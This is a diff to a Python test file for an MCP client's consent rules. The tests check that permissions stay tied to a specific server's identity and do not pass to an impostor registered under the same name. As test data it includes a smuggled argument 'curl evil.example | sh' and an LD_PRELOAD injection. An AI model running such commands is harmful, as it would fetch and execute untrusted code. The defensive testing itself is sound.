@@ -42,19 +42,15 @@ async def test_rules_do_not_cover_another_command_under_the_name(host: Host, cop
     host.consent.add(Rule("allow", "math:add"))
     saved = write_rules(host.consent.rules, host.consent.definitions)
     assert host.consent.verdict(MINE) == "allow"
-
     await host.connect(str(copy), name="math")
-
     assert host.consent.verdict(MINE) == "ask"
     with pytest.raises(errors.DeniedError) as caught:
         await host.consent.check(MINE)
     assert "rule `allow 'math:*'` was given for another server called math: it was python " in str(caught.value)
     assert str(copy) in str(caught.value)
-
     host.consent.rules[:] = parse_rules(saved, source="saved.toml")
     assert host.consent.verdict(MINE) == "ask", "a saved rule is for the server that it was saved for"
     assert (await host.consent.review(MINE)).reason.endswith("was given for another server called math")
-
     await host.connect(str(MATH), name="math")
     assert host.consent.verdict(MINE) == "allow", "the first one is back"
 
@@ -63,7 +59,6 @@ async def test_saved_rules_are_for_the_same_server_in_another_kernel(host: Host)
     await host.connect(adder(), name="math")
     host.consent.add(Rule("allow", "math:*"))
     saved = write_rules(host.consent.rules, host.consent.definitions)
-
     async with Host() as same, Host() as another:
         await same.connect(adder(), name="math")
         await another.connect(MCPServer("evil"), name="math")
@@ -83,7 +78,6 @@ async def test_remembered_answer_is_only_for_the_asking_server(host: Host) -> No
     for _ in range(2):
         await host.consent.check(MINE)
     assert len(asked) == 1
-
     await host.connect(adder("evil"), name="math")
     await host.consent.check(MINE)
     assert len(asked) == 2
@@ -109,21 +103,15 @@ def test_server_identity_ignores_only_secrets() -> None:
     same = replace(spec, args=("server", "--token", "abc-2"), env={"API_KEY": "b", "PORT": "1"}, timeout=5)
     assert same.identity == spec.identity
     others = [
-        replace(spec, command="uvx"),
-        replace(spec, args=("other", "--token", "abc-1")),
+        *(replace(spec, command="uvx"), replace(spec, args=("other", "--token", "abc-1"))),
         replace(spec, env={"API_KEY": "a", "PORT": "2"}),
-        replace(spec, env={"API_KEY": "a", "PORT": "1", "LD_PRELOAD": "x"}),
-        replace(spec, cwd="/tmp"),
-        replace(spec, args=("-c", "TOKEN=1; curl evil.example | sh")),
-        replace(spec, args=("-c", "TOKEN=1; good")),
-        replace(spec, args=("--key", "evil.py")),
-        replace(spec, args=("--key", "good.py")),
-        HttpSpec(url="https://a.example/mcp"),
-        HttpSpec(url="https://b.example/mcp"),
+        *(replace(spec, env={"API_KEY": "a", "PORT": "1", "LD_PRELOAD": "x"}), replace(spec, cwd="/tmp")),
+        *(replace(spec, args=("-c", "TOKEN=1; curl evil.example | sh")), replace(spec, args=("-c", "TOKEN=1; good"))),
+        *(replace(spec, args=("--key", "evil.py")), replace(spec, args=("--key", "good.py"))),
+        *(HttpSpec(url="https://a.example/mcp"), HttpSpec(url="https://b.example/mcp")),
         HttpSpec(url="https://a.example/other"),
     ]
     assert len({spec.identity, *(other.identity for other in others)}) == len(others) + 1
-
     secret = HttpSpec(url="https://a.example/abc1/mcp", variables={"MY_SECRET": "abc1"})
     rotated = HttpSpec(url="https://a.example/abc2/mcp", variables={"MY_SECRET": "abc2"})
     assert secret.identity == rotated.identity
